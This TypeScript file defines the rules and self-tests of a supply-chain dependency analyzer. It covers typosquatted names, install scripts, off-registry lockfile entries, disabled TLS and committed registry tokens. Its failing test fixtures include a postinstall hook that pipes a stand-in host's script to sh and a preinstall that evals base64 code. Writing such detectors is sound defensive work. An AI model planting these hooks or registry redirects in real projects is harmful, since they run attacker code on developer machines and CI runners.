// Rule metadata and self-tests of the dependency analyzer (dependencies.ts).

import type { AnalyzerRule } from '../../rules/types.js';

export const RULE = {
  parseError: 'dependency.manifest-parse-error',
  typosquat: 'dependency.typosquat',
  installScript: 'dependency.install-script',
  installScriptDownload: 'dependency.install-script-download',
  nonRegistry: 'dependency.non-registry-source',
  lockOffRegistry: 'dependency.lockfile-off-registry',
  lockMissingIntegrity: 'dependency.lockfile-missing-integrity',
  registryChange: 'dependency.registry-change',
  tlsDisabled: 'dependency.tls-verification-disabled',
  scriptsEnabled: 'dependency.install-scripts-enabled',
  authToken: 'dependency.registry-token-committed',
  pipIndex: 'dependency.python-index-change',
  pipTrustedHost: 'dependency.python-trusted-host',
  pythonDirectUrl: 'dependency.python-direct-url',
  goReplace: 'dependency.go-replace',
  cargoGit: 'dependency.cargo-git-source',
} as const;

const lines = (...text: string[]): string => `${text.join('\n')}\n`;

const NPM_SCRIPTS_DOC = 'https://docs.npmjs.com/cli/v10/using-npm/scripts';
const NPMRC_DOC = 'https://docs.npmjs.com/cli/v10/configuring-npm/npmrc';
const LOCKFILE_DOC = 'https://docs.npmjs.com/cli/v10/configuring-npm/package-lock-json';
const NPM_DEPS_DOC = 'https://docs.npmjs.com/cli/v10/configuring-npm/package-json#dependencies';
const PIP_REQ_DOC = 'https://pip.pypa.io/en/stable/reference/requirements-file-format/';
const PIP_INSTALL_DOC = 'https://pip.pypa.io/en/stable/cli/pip_install/';
const SLOPSQUATTING_PAPER = 'https://arxiv.org/abs/2406.10279';
const NX_ADVISORY = 'https://github.com/nrwl/nx/security/advisories/GHSA-cxm3-wv7p-598c';
const SHAI_HULUD_ALERT = 'https://www.cisa.gov/news-events/alerts/2025/09/23/widespread-supply-chain-compromise-impacting-npm-ecosystem';

const packageJson = (deps: string[], scripts: string[] = ['"test": "vitest run"']): string =>
  lines(
    '{',
    '  "name": "billing-service",',
    '  "version": "1.4.0",',
    '  "scripts": {',
    ...scripts.map((s, i) => `    ${s}${i < scripts.length - 1 ? ',' : ''}`),
    '  },',
    '  "dependencies": {',
    ...deps.map((d, i) => `    ${d}${i < deps.length - 1 ? ',' : ''}`),
    '  }',
    '}',
  );

const npmLock = (resolved: string, integrity: string | null): string =>
  lines(
    '{',
    '  "name": "billing-service",',
    '  "version": "1.4.0",',
    '  "lockfileVersion": 3,',
    '  "requires": true,',
    '  "packages": {',
    '    "": {',
    '      "name": "billing-service",',
    '      "dependencies": { "lodash": "^4.17.21" }',
    '    },',
    '    "node_modules/lodash": {',
    '      "version": "4.17.21",',
    `      "resolved": "${resolved}",`,
    ...(integrity ? [`      "integrity": "${integrity}",`] : []),
    '      "license": "MIT"',
    '    }',
    '  }',
    '}',
  );

const LODASH_INTEGRITY =
  'sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg==';

export const DEPENDENCY_RULES: AnalyzerRule[] = [
  {
    meta: {
      id: RULE.parseError,
      title: 'Dependency manifest could not be parsed',
      severity: 'medium',
      confidence: 'high',
      category: 'supply-chain',
      cwe: ['CWE-436'],
      message:
        'This dependency manifest is not valid JSON/TOML, so its dependencies, scripts and sources could not be reviewed. ' +
        'Package managers also disagree on how to read broken files, which can hide what actually gets installed.',
      fix: 'Fix the syntax error so the file can be reviewed.',
      references: ['https://www.rfc-editor.org/rfc/rfc8259', 'https://toml.io/en/v1.0.0'],
    },
    tests: {
      valid: [{ path: 'package.json', code: packageJson(['"lodash": "^4.17.21"']) }],
      invalid: [
        {
          path: 'package.json',
          code: lines('{', '  "name": "billing-service",', '  "dependencies": {', '    "lodash": "^4.17.21",', '  }', '}'),
          lines: [5],
        },
        {
          path: 'pyproject.toml',
          code: lines('[project]', 'name = "billing"', 'dependencies = [', '  "requests>=2.31",', '  "pydantic>=2"', ''),
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.typosquat,
      title: 'Dependency name resembles a popular package',
      severity: 'high',
      confidence: 'medium',
      category: 'supply-chain',
      cwe: ['CWE-829'],
      message:
        'A newly added dependency is not a popular package, and its name differs from a widely used one the way typos ' +
        'and imitations do: swapped, doubled or dropped letters, lookalike characters, separators, a "-js" suffix. ' +
        'Such names are registered by attackers (typosquatting, slopsquatting) to run code on install.',
      fix: 'Check the exact package name on the registry; use the popular package if that is what was meant.',
      references: [SLOPSQUATTING_PAPER, 'https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse'],
    },
    tests: {
      valid: [
        { path: 'package.json', code: packageJson(['"react": "^18.3.1"', '"lodash": "^4.17.21"', '"express": "^4.19.2"']) },
        { path: 'requirements.txt', code: lines('requests==2.32.3', 'python-dateutil>=2.9', 'numpy>=1.26') },
        // Only added lines count: the pre-existing "lodahs" line is not part of this change.
        { path: 'package.json', code: packageJson(['"lodahs": "^1.0.0"', '"react": "^18.3.1"']), added: [9] },
      ],
      invalid: [
        { path: 'package.json', code: packageJson(['"react": "^18.3.1"', '"lodahs": "^4.17.21"']), added: [9], lines: [9] },
        { path: 'requirements.txt', code: lines('requests==2.32.3', 'reqeusts==2.32.3'), lines: [2] },
        {
          path: 'docker/Dockerfile',
          code: lines('FROM python:3.12-slim', 'RUN pip install --no-cache-dir \\', '    flask \\', '    python-dateutils'),
          lines: [4],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.installScript,
      title: 'New or changed npm install-time script',
      severity: 'high',
      confidence: 'medium',
      category: 'supply-chain',
      cwe: ['CWE-829'],
      message:
        'A preinstall/install/postinstall/prepare/prepack script runs automatically whenever the package is installed, ' +
        'on every developer machine and CI runner, before anyone runs the code. npm worms spread through these scripts.',
      fix: 'Move the step into an explicit script (e.g. "npm run setup") or explain why it must run at install.',
      references: [NPM_SCRIPTS_DOC, SHAI_HULUD_ALERT, NX_ADVISORY],
    },
    tests: {
      valid: [{ path: 'package.json', code: packageJson(['"lodash": "^4.17.21"'], ['"build": "tsc -p ."', '"test": "vitest run"']) }],
      invalid: [
        {
          path: 'package.json',
          code: packageJson(['"lodash": "^4.17.21"'], ['"build": "tsc -p ."', '"postinstall": "node scripts/setup.js"']),
          lines: [6],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.installScriptDownload,
      title: 'npm install-time script downloads or evaluates code',
      severity: 'critical',
      confidence: 'high',
      category: 'supply-chain',
      cwe: ['CWE-494', 'CWE-506'],
      message:
        'An install-time script (runs automatically on npm install) downloads, decodes or evaluates code, or drives an ' +
        'AI CLI with its safety checks off. This is the shape of the Shai-Hulud and Nx "s1ngularity" npm attacks.',
      fix: 'Remove the script; vendor or pin whatever it fetches and run it explicitly.',
      references: [NPM_SCRIPTS_DOC, SHAI_HULUD_ALERT, NX_ADVISORY],
    },
    tests: {
      valid: [
        { path: 'package.json', code: packageJson(['"lodash": "^4.17.21"'], ['"postinstall": "node scripts/setup.js"']) },
      ],
      invalid: [
        {
          path: 'package.json',
          code: packageJson(['"lodash": "^4.17.21"'], ['"postinstall": "curl -sSL https://cdn.example.net/setup.sh | sh"']),
          lines: [5],
        },
        {
          path: 'packages/cli/package.json',
          code: packageJson([], ['"preinstall": "node -e \\"eval(Buffer.from(process.env.P, \'base64\').toString())\\""']),
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.nonRegistry,
      title: 'Dependency installed from outside the npm registry',
      severity: 'medium',
      confidence: 'high',
      category: 'supply-chain',
      cwe: ['CWE-494'],
      message:
        'A dependency comes from a git repository, a URL, a GitHub shorthand or a local path instead of the registry: ' +
        'no registry integrity hash or malware scanning applies, and the content can change under the same reference.',
      fix: 'Depend on a published registry version, or pin the git dependency to a full commit SHA and explain why.',
      references: [NPM_DEPS_DOC],
    },
    tests: {
      valid: [{ path: 'package.json', code: packageJson(['"left-pad": "^1.3.0"', '"@acme/shared": "workspace:*"']) }],
      invalid: [
        { path: 'package.json', code: packageJson(['"left-pad": "git+https://github.com/someone/left-pad.git"']), lines: [8] },
        { path: 'package.json', code: packageJson(['"fast-utils": "someone/fast-utils#main"']) },
        { path: 'scripts/bootstrap.sh', code: lines('#!/bin/sh', 'set -e', 'npm install https://files.example.org/pkg-1.0.0.tgz'), lines: [3] },
      ],
    },
  },
  {
    meta: {
      id: RULE.lockOffRegistry,
      title: 'Lockfile resolves a package outside the npm registry',
      severity: 'medium',
      confidence: 'high',
      category: 'supply-chain',
      cwe: ['CWE-494'],
      message:
        'A lockfile entry downloads a package from a host other than registry.npmjs.org. Lockfile diffs are rarely read, ' +
        'which makes them a quiet place to redirect an install to an attacker-controlled tarball.',
      fix: 'Regenerate the lockfile against the public registry, or confirm the host is your organization\'s registry.',
      references: [LOCKFILE_DOC, 'https://snyk.io/blog/why-npm-lockfiles-can-be-a-security-blindspot-for-injecting-malicious-modules/'],
    },
    tests: {
      valid: [
        { path: 'package-lock.json', code: npmLock('https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz', LODASH_INTEGRITY) },
        { path: 'yarn.lock', code: lines('lodash@^4.17.21:', '  version "4.17.21"', '  resolved "https://registry.yarnpkg.com/lodash/-/lodash-4.17.21.tgz#679591c564c3bffaae8454cf0b3df370c3d6911c"') },
      ],
      invalid: [
        { path: 'package-lock.json', code: npmLock('https://npm.mirror-cdn.example/lodash/-/lodash-4.17.21.tgz', LODASH_INTEGRITY), lines: [13] },
        { path: 'yarn.lock', code: lines('lodash@^4.17.21:', '  version "4.17.21"', '  resolved "https://packages.example.io/lodash-4.17.21.tgz"'), lines: [3] },
        { path: 'pnpm-lock.yaml', code: lines('packages:', '  lodash@4.17.21:', '    resolution: {tarball: https://packages.example.io/lodash-4.17.21.tgz}') },
      ],
    },
  },
  {
    meta: {
      id: RULE.lockMissingIntegrity,
      title: 'Lockfile entry without an integrity hash',
      severity: 'medium',
      confidence: 'high',
      category: 'supply-chain',
      cwe: ['CWE-353'],
      message:
        'A lockfile entry points at the registry but carries no "integrity" hash, so npm installs whatever tarball it ' +
        'receives without verifying it against the one that was locked.',
      fix: 'Regenerate the lockfile with a current npm so every entry has its integrity hash.',
      references: [LOCKFILE_DOC],
    },
    tests: {
      valid: [{ path: 'package-lock.json', code: npmLock('https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz', LODASH_INTEGRITY) }],
      invalid: [{ path: 'package-lock.json', code: npmLock('https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz', null), lines: [13] }],
    },
  },
  {
    meta: {
      id: RULE.registryChange,
      title: 'Package registry changed',
      severity: 'medium',
      confidence: 'high',
      category: 'supply-chain',
      cwe: ['CWE-427'],
      message:
        'The change points npm/yarn at a different registry. Every package (or every package of a scope) is then ' +
        'fetched from that host; a lookalike or attacker-controlled registry serves whatever code it wants.',
      fix: "Keep the public registry, or confirm the host is your organization's registry proxy.",
      references: [NPMRC_DOC, 'https://yarnpkg.com/configuration/yarnrc#npmRegistryServer'],
    },
    tests: {
      valid: [
        { path: '.npmrc', code: lines('registry=https://registry.npmjs.org/', 'save-exact=true') },
        // A scope's own registry with the token from the environment: how private packages are published.
        { path: '.npmrc', code: lines('@acme:registry=https://npm.pkg.github.com', '//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}') },
      ],
      invalid: [
        { path: '.npmrc', code: lines('save-exact=true', 'registry=https://npm.registry-mirror.example/'), lines: [2] },
        { path: 'scripts/setup.sh', code: lines('#!/bin/sh', 'npm config set registry https://npm.registry-mirror.example/'), lines: [2] },
        { path: '.yarnrc.yml', code: lines('nodeLinker: node-modules', 'npmRegistryServer: "http://10.0.0.8:4873"') },
        { path: 'ci/install.sh', code: lines('#!/bin/bash', 'npm ci --registry https://npm.registry-mirror.example/') },
      ],
    },
  },
  {
    meta: {
      id: RULE.tlsDisabled,
      title: 'Package manager TLS verification disabled',
      severity: 'high',
      confidence: 'high',
      category: 'supply-chain',
      cwe: ['CWE-295'],
      message:
        'The package manager no longer verifies TLS certificates, so anyone on the network path can swap the packages ' +
        'it downloads.',
      fix: 'Remove strict-ssl=false / enableStrictSsl: false; configure the corporate CA with "cafile" instead.',
      references: [NPMRC_DOC, 'https://docs.npmjs.com/cli/v10/using-npm/config#strict-ssl'],
    },
    tests: {
      valid: [{ path: '.npmrc', code: lines('strict-ssl=true', 'cafile=/etc/ssl/certs/corp-ca.pem') }],
      invalid: [
        { path: '.npmrc', code: lines('save-exact=true', 'strict-ssl=false'), lines: [2] },
        { path: '.yarnrc.yml', code: lines('enableStrictSsl: false') },
      ],
    },
  },
  {
    meta: {
      id: RULE.scriptsEnabled,
      title: 'Dependency install scripts re-enabled',
      severity: 'medium',
      confidence: 'high',
      category: 'supply-chain',
      cwe: ['CWE-829'],
      message:
        'The change turns dependency install scripts back on (ignore-scripts=false / enableScripts: true), so every ' +
        'transitive dependency may run code at install time.',
      fix: 'Keep install scripts disabled and allow only the packages that need them.',
      references: [NPMRC_DOC, 'https://docs.npmjs.com/cli/v10/using-npm/config#ignore-scripts'],
    },
    tests: {
      valid: [{ path: '.npmrc', code: lines('ignore-scripts=true') }],
      invalid: [
        { path: '.npmrc', code: lines('save-exact=true', 'ignore-scripts=false'), lines: [2] },
        { path: '.yarnrc.yml', code: lines('enableScripts: true') },
      ],
    },
  },
  {
    meta: {
      id: RULE.authToken,
      title: 'Registry credential committed',
      severity: 'high',
      confidence: 'high',
      category: 'secrets',
      cwe: ['CWE-798'],
      message:
        'A registry auth token or password is written literally in the package manager configuration. Anyone who can ' +
        'read the repository can use it to read or publish packages.',
      fix: 'Revoke the token and reference an environment variable instead, e.g. //registry.npmjs.org/:_authToken=${NPM_TOKEN}.',
      references: [NPMRC_DOC, 'https://docs.npmjs.com/using-private-packages-in-a-ci-cd-workflow'],
    },
    tests: {
      valid: [{ path: '.npmrc', code: lines('//registry.npmjs.org/:_authToken=${NPM_TOKEN}') }],
      invalid: [
        { path: '.npmrc', code: lines('//registry.npmjs.org/:_authToken=0d1e2f3a-example-token-4b5c6d7e8f90') },
        { path: '.yarnrc.yml', code: lines('npmAuthToken: 0d1e2f3a-example-token-4b5c6d7e8f90') },
      ],
    },
  },
  {
    meta: {
      id: RULE.pipIndex,
      title: 'Python package index changed',
      severity: 'high',
      confidence: 'high',
      category: 'supply-chain',
      cwe: ['CWE-427'],
      message:
        'The change adds or replaces a Python package index. With --extra-index-url pip installs the highest version ' +
        'found on any index, so a public package that shares an internal name wins (dependency confusion).',
      fix: 'Use a single index (an internal proxy of PyPI), or pin hashes with --require-hashes.',
      references: [PIP_INSTALL_DOC, 'https://medium.com/@alex.birsan/dependency-confusion-4a5d60fec610'],
    },
    tests: {
      valid: [{ path: 'requirements.txt', code: lines('--index-url https://pypi.org/simple', 'requests==2.32.3') }],
      invalid: [
        { path: 'requirements.txt', code: lines('--extra-index-url https://pypi.internal.example/simple', 'requests==2.32.3'), lines: [1] },
        { path: 'pip.conf', code: lines('[global]', 'index-url = https://pypi.mirror.example/simple'), lines: [2] },
        { path: '.github/workflows/ci.yml', code: lines('jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - run: pip install -i https://pypi.mirror.example/simple acme-billing') },
      ],
    },
  },
  {
    meta: {
      id: RULE.pipTrustedHost,
      title: 'Python index host marked as trusted',
      severity: 'medium',
      confidence: 'high',
      category: 'supply-chain',
      cwe: ['CWE-295'],
      message: '--trusted-host makes pip skip TLS verification for that host (and accept plain http from it).',
      fix: 'Remove --trusted-host and install the host\'s CA certificate instead (--cert or PIP_CERT).',
      references: [PIP_INSTALL_DOC],
    },
    tests: {
      valid: [{ path: 'requirements.txt', code: lines('requests==2.32.3') }],
      invalid: [{ path: 'requirements.txt', code: lines('--trusted-host pypi.internal.example', 'requests==2.32.3'), lines: [1] }],
    },
  },
  {
    meta: {
      id: RULE.pythonDirectUrl,
      title: 'Python dependency installed from a URL or git',
      severity: 'medium',
      confidence: 'high',
      category: 'supply-chain',
      cwe: ['CWE-494'],
      message:
        'A Python dependency is installed from a direct URL or a version-control repository instead of a package ' +
        'index: no index metadata or hash pinning applies, and the content behind the reference can change.',
      fix: 'Depend on a released version from the index, or pin the URL to a commit and a --hash.',
      references: [PIP_REQ_DOC, 'https://packaging.python.org/en/latest/specifications/dependency-specifiers/'],
    },
    tests: {
      valid: [{ path: 'requirements.txt', code: lines('requests==2.32.3', '-e .') }],
      invalid: [
        { path: 'requirements.txt', code: lines('requests==2.32.3', 'acme-client @ git+https://github.com/someone/acme-client@main'), lines: [2] },
        {
          path: 'pyproject.toml',
          code: lines('[tool.poetry.dependencies]', 'python = "^3.11"', 'acme-client = { git = "https://github.com/someone/acme-client.git", branch = "main" }'),
          lines: [3],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.goReplace,
      title: 'go.mod replace directive redirects a module',
      severity: 'medium',
      confidence: 'high',
      category: 'supply-chain',
      cwe: ['CWE-829'],
      message:
        'A replace directive makes every import of a module compile code from a local directory or a different module, ' +
        'bypassing the checksum database for the module that was reviewed.',
      fix: 'Remove the replace directive before merging, or explain why the fork is needed.',
      references: ['https://go.dev/ref/mod#go-mod-file-replace'],
    },
    tests: {
      valid: [
        {
          path: 'go.mod',
          code: lines('module example.com/billing', '', 'go 1.22', '', 'require github.com/sirupsen/logrus v1.9.3', '', 'replace github.com/sirupsen/logrus => github.com/sirupsen/logrus v1.9.0'),
        },
      ],
      invalid: [
        {
          path: 'go.mod',
          code: lines('module example.com/billing', '', 'go 1.22', '', 'require github.com/sirupsen/logrus v1.9.3', '', 'replace github.com/sirupsen/logrus => ../logrus-patched'),
          lines: [7],
        },
        {
          path: 'go.mod',
          code: lines('module example.com/billing', '', 'replace (', '\tgolang.org/x/crypto => github.com/someone/crypto v0.0.1', ')'),
          lines: [4],
        },
      ],
    },
  },
  {
    meta: {
      id: RULE.cargoGit,
      title: 'Rust crate fetched from git',
      severity: 'medium',
      confidence: 'high',
      category: 'supply-chain',
      cwe: ['CWE-494'],
      message:
        'A crate is fetched from a git repository instead of crates.io: no registry checksum or yanking applies, and ' +
        'a branch reference can change under the same Cargo.toml.',
      fix: 'Use a published crates.io version, or pin the git dependency with rev = "<full commit SHA>".',
      references: ['https://doc.rust-lang.org/cargo/reference/specifying-dependencies.html#specifying-dependencies-from-git-repositories'],
    },
    tests: {
      valid: [{ path: 'Cargo.toml', code: lines('[package]', 'name = "billing"', 'version = "0.1.0"', '', '[dependencies]', 'serde = { version = "1.0", features = ["derive"] }') }],
      invalid: [
        {
          path: 'Cargo.toml',
          code: lines('[package]', 'name = "billing"', 'version = "0.1.0"', '', '[dependencies]', 'serde = { git = "https://github.com/someone/serde", branch = "main" }'),
          lines: [6],
        },
        { path: 'crates/api/Cargo.toml', code: lines('[dependencies.tokio]', 'git = "https://github.com/someone/tokio"', 'features = ["full"]'), lines: [2] },
      ],
    },
  },
];
